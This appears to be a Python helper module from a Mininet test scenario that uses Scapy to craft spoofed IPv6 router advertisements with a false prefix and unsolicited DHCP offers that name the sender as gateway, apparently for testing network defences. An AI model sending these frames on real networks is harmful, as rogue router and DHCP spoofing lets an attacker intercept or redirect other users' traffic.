"""Frames of machines that play router or DHCP server without being asked to."""

from __future__ import annotations

from typing import TYPE_CHECKING

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, IPv6
from scapy.layers.l2 import Ether

if TYPE_CHECKING:
    from mininet_scenarios.vm import Vm

ALL_NODES = "33:33:00:00:00:01"


def advertisement(source: Vm, prefix: str) -> bytes:
    """A router advertisement of a false prefix, like ``2001:db8:bad::``, from the machine's own link-local address."""
    shown = source.machine.run("ip", "-6", "-oneline", "address", "show", "dev", "eth0", "scope", "link")
    own = shown.split()[3].partition("/")[0]
    layers = IPv6(src=own, dst="ff02::1", hlim=255) / ICMPv6ND_RA() / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64)
    return bytes(Ether(src=source.nic.mac, dst=ALL_NODES) / layers)


def offer(source: Vm, victim: Vm, address: str) -> bytes:
    """An unasked DHCP offer of a false address."""
    options = [("message-type", "offer"), ("server_id", source.ipv4), ("router", source.ipv4), "end"]
    message = BOOTP(op=2, yiaddr=address, siaddr=source.ipv4, chaddr=bytes.fromhex(victim.nic.mac.replace(":", "")))
    datagram = IP(src=source.ipv4, dst="255.255.255.255") / UDP(sport=67, dport=68)
    return bytes(Ether(src=source.nic.mac, dst=victim.nic.mac) / datagram / message / DHCP(options=options))
